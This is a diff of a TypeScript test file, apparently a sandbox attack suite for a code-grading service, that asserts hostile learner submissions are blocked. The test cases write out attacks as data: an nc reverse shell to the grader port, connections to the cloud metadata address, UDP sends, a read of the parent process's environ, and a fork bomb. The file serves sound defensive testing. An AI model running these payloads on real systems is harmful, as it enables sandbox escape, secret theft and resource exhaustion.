@@ -1,29 +1,31 @@
 // The attack suite: hostile submissions, each asserting the safe outcome AND that the host is
 // untouched — sentinel files unchanged, no process of a sandbox uid left running, the "grader's"
-// port never reached, and the grader still grading honest code correctly afterwards.
+// ports never reached (TCP and UDP), and the grader still grading honest code correctly afterwards.
 // Runs through gradeSubmission with every sandbox layer (CI installs bubblewrap and runs as root).
 import { execFileSync } from 'node:child_process';
 import crypto from 'node:crypto';
+import dgram from 'node:dgram';
 import fs from 'node:fs';
 import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
+import { isCi } from '@tyinglab/db/testing';
 import { loadExercise } from '@tyinglab/exercise-format';
-import { resetGraderConfigForTests } from '../config';
+import { setGraderEnvForTests } from '../config';
 import { gradeSubmission, type GradeOutcome } from '../grade/grade-submission';
 import { hostCapabilities, missingLayers } from './capabilities';
 
 // Dedicated uids for this file (no warm pool), so "no survivors" can be checked by uid.
 const UID_BASE = 65_000;
-process.env.GRADER_SLOT_UID_BASE = String(UID_BASE);
-process.env.GRADER_WARM_POOL = '0';
-process.env.GRADER_SANDBOX = 'strict';
-process.env.TYINGLAB_TEST_SECRET = 'sekret-env-value-4711';
-resetGraderConfigForTests();
+setGraderEnvForTests({
+  GRADER_SLOT_UID_BASE: String(UID_BASE),
+  GRADER_WARM_POOL: '0',
+  GRADER_SANDBOX: 'strict',
+  TYINGLAB_TEST_SECRET: 'sekret-env-value-4711',
+});
 
-const CI = process.env.CI === 'true' || process.env.CI === '1';
 const missing = missingLayers(hostCapabilities());
-if (missing.length > 0 && CI) throw new Error(`the attack suite needs every sandbox layer under CI; missing: ${missing.join('; ')}`);
+if (missing.length > 0 && isCi()) throw new Error(`the attack suite needs every sandbox layer under CI; missing: ${missing.join('; ')}`);
 const describeFull = missing.length === 0 ? describe : describe.skip;
 if (missing.length > 0) console.warn(`[attacks] skipped: this host lacks sandbox layers (${missing.join('; ')}); CI fails instead`);
 
@@ -45,11 +47,22 @@ const sentinelStat = () => {
 };
 const sentinelBefore = sentinelStat();
 
+// Listeners standing for the grader's own services on this host: any connection or datagram that
+// reaches one of them came out of a sandbox.
 let portHits = 0;
 let graderPort = 0;
-const server = net.createServer((s) => {
+/** Port of the IPv6 loopback listener; 0 on a host without IPv6 loopback. */
+let graderPort6 = 0;
+const onConnection = (s: net.Socket) => {
   portHits++;
   s.destroy();
+};
+const server = net.createServer(onConnection);
+const server6 = net.createServer(onConnection);
+let udpHits = 0;
+let udpPort = 0;
+const udpServer = dgram.createSocket('udp4', () => {
+  udpHits++;
 });
 
 function sandboxUidProcesses(): string[] {
@@ -78,11 +91,62 @@ throw new Error(escaped ? 'ESCAPED' : 'blocked ' + why);
 export {};`;
 }
 
-/** Starts an asynchronous attempt at load time, then behaves like the starter; success would show on the host. */
-function backgroundAttempt(body: string): string {
-  return `const req: any = (process as any).mainModule.require.bind((process as any).mainModule);
-try { ${body} } catch { /* refused synchronously */ }
+/**
+ * Learner code (otherwise the starter) that makes a network attempt at load time and reports how it
+ * ended. Network operations finish asynchronously and the child exits as soon as the probes are
+ * done, so the attempt is given time to finish: the grader awaits each probe's answer,
+ * tied-conv2d's first probe answers with an array, and a `then` planted on Array.prototype turns
+ * that await into a wait for the attempt (it answers only for that array: tfjs asks other arrays
+ * whether they are promises). The probe then fails with an error made by `verdict`. Of an error
+ * thrown on hidden inputs the grader shows only its class and line (learner-text.ts), so the
+ * verdict is told by where the error is made: ATTEMPT_REFUSED or ATTEMPT_GOT_THROUGH below (another
+ * error code, or no answer within 2 s: a RangeError on line 5). `body` calls `done(error?)` when
+ * the operation has succeeded or failed.
+ */
+function networkAttempt(body: string): string {
+  const code = `const req: any = (process as any).mainModule.require.bind((process as any).mainModule);
+function verdict(how: string): Error {
+  if (how === 'refused EACCES') return new Error(how);
+  if (how === 'got through') return new TypeError(how);
+  return new RangeError(how);
+}
+const ended = new Promise<string>((settle) => {
+  const done = (e?: any) => settle(e ? 'refused ' + String(e.code ?? e.message).slice(0, 40) : 'got through');
+  setTimeout(() => settle('no answer'), 2000);
+  try { ${body} } catch (e) { done(e); }
+});
+function waitForAttempt(_resolve: unknown, reject: (e: Error) => void) {
+  delete (Array.prototype as any).then;
+  void ended.then((how) => reject(verdict(how)));
+}
+Object.defineProperty(Array.prototype, 'then', {
+  configurable: true,
+  // Only on the first probe's answer ([{ label, weights }, …]): tfjs asks other arrays for "then" too.
+  get(this: any[]) {
+    const first = this[0];
+    return first !== null && typeof first === 'object' && 'label' in first && 'weights' in first ? waitForAttempt : undefined;
+  },
+});
 ${def.starter}`;
+  const lines = code.split('\n');
+  if (!lines[2]!.includes("'refused EACCES'") || !lines[3]!.includes("'got through'")) throw new Error('networkAttempt: the verdict lines moved; update ATTEMPT_REFUSED and ATTEMPT_GOT_THROUGH');
+  return code;
+}
+
+/** How the first probe of a networkAttempt submission fails when the attempt was refused with EACCES / got through. */
+const ATTEMPT_REFUSED = 'threw an Error (submission.ts line 3)';
+const ATTEMPT_GOT_THROUGH = 'threw a TypeError (submission.ts line 4)';
+
+/**
+ * The attempt ran to its end inside the sandbox and was refused there: the seccomp filter lets a
+ * sandbox create AF_UNIX sockets only, so creating the socket fails with EACCES. Without that layer
+ * the attempt would end otherwise (connected, another error, or no answer) and this fails.
+ */
+function expectRefused(o: GradeOutcome): void {
+  expect(o.status).toBe('GRADED');
+  const text = JSON.stringify(o);
+  expect(text).not.toContain(ATTEMPT_GOT_THROUGH);
+  expect(text).toContain(ATTEMPT_REFUSED);
 }
 
 function expectBlocked(o: GradeOutcome): void {
@@ -109,12 +173,19 @@ describeFull('sandbox attack suite', () => {
   beforeAll(async () => {
     await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
     graderPort = (server.address() as net.AddressInfo).port;
+    graderPort6 = await new Promise<number>((r) => {
+      server6.once('error', () => r(0)); // no IPv6 loopback on this host
+      server6.listen(0, '::1', () => r((server6.address() as net.AddressInfo).port));
+    });
+    await new Promise<void>((r) => udpServer.bind(0, '127.0.0.1', () => r()));
+    udpPort = udpServer.address().port;
   });
 
   afterEach(async () => {
     // The host is untouched after every attack.
     expect(sentinelStat()).toBe(sentinelBefore);
     expect(portHits).toBe(0);
+    expect(udpHits).toBe(0);
     // Processes are killed by the runner; allow the kernel a moment to reap them.
     const deadline = Date.now() + 3000;
     while (sandboxUidProcesses().length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
@@ -123,6 +194,8 @@ describeFull('sandbox attack suite', () => {
 
   afterAll(async () => {
     server.close();
+    server6.close();
+    udpServer.close();
     // The grader still grades honest code correctly after everything above.
     const o = await grade(solution);
     expect(o).toMatchObject({ status: 'GRADED', score: 1 });
@@ -158,11 +231,22 @@ describeFull('sandbox attack suite', () => {
     ],
     ['reads /proc of its parent', () => escape(`return req('fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8');`), expectBlocked],
     // --- network ------------------------------------------------------------------------------------------
-    // (the afterEach check proves the grader's port was never reached)
-    ['connects to 127.0.0.1 on the grader port', () => backgroundAttempt(`const s = req('net').connect(${graderPort}, '127.0.0.1', () => s.write('pwned')); s.on('error', () => {});`), expectLowScore],
-    ['connects to the grader port over IPv6 loopback', () => backgroundAttempt(`const s = req('net').connect(${graderPort}, '::1', () => s.write('pwned')); s.on('error', () => {});`), expectLowScore],
-    ['connects to the cloud metadata address', () => backgroundAttempt(`const s = req('net').connect(80, '169.254.169.254', () => { throw new Error('ESCAPED'); }); s.on('error', () => {});`), expectLowScore],
-    ['sends UDP datagrams out', () => backgroundAttempt(`req('dgram').createSocket('udp4').send('x', 53, '8.8.8.8', () => {});`), expectLowScore],
+    // Each attempt runs to its end and must be refused inside the sandbox (expectRefused); the
+    // afterEach checks also prove that no connection or datagram reached the host's listeners.
+    ['connects to 127.0.0.1 on the grader port', () => networkAttempt(`const s = req('net').connect(${graderPort}, '127.0.0.1', () => { s.end('pwned'); done(); }); s.on('error', done);`), expectRefused, 10_000],
+    [
+      'connects to the grader port over IPv6 loopback',
+      () => networkAttempt(`const s = req('net').connect(${graderPort6 || graderPort}, '::1', () => { s.end('pwned'); done(); }); s.on('error', done);`),
+      expectRefused,
+      10_000,
+    ],
+    ['connects to the cloud metadata address', () => networkAttempt(`const s = req('net').connect(80, '169.254.169.254', () => { s.destroy(); done(); }); s.on('error', done);`), expectRefused, 10_000],
+    [
+      'sends UDP datagrams out (to a port listening on the host)',
+      () => networkAttempt(`const s = req('dgram').createSocket('udp4'); s.on('error', done); s.send('pwned', ${udpPort}, '127.0.0.1', (e: any) => { s.close(); done(e); });`),
+      expectRefused,
+      10_000,
+    ],
     ['opens a reverse shell', () => escape(`req('child_process').spawn('/bin/sh', ['-c', 'nc 127.0.0.1 ${graderPort}']);`), expectBlocked],
     // --- processes ----------------------------------------------------------------------------------------
     ['fork bomb through child_process', () => escape(`for (let i = 0; i < 100; i++) req('child_process').fork(__filename);`), expectBlocked],
@@ -223,8 +307,19 @@ describeFull('sandbox attack suite', () => {
     ],
   ];
 
-  it('has at least 30 attacks', () => {
-    expect(attacks.length).toBeGreaterThanOrEqual(30);
+  // Controls: the two harnesses report success when the sandbox lets the body run, so "blocked" and
+  // "refused" above come from the sandbox, not from a harness that never attempted anything (for
+  // example Node's require out of reach, or a probe answer that is no longer awaited).
+  it('control: escape() reports ESCAPED for a body the sandbox allows', async () => {
+    const o = await grade(escape(`return req('path').join('a', 'b');`));
+    expectNotGradable(o, ['LOAD_ERROR']);
+    if (o.status === 'NOT_GRADABLE') expect(o.message).toContain('ESCAPED');
+  });
+
+  it('control: networkAttempt() waits for the attempt and reports how it ended', async () => {
+    const o = await grade(networkAttempt(`setTimeout(() => done(), 50);`), 10_000);
+    expect(o.status).toBe('GRADED');
+    expect(JSON.stringify(o)).toContain(ATTEMPT_GOT_THROUGH);
   });
 
   // (rest parameter: a 4th declared parameter would make jest pass a `done` callback)
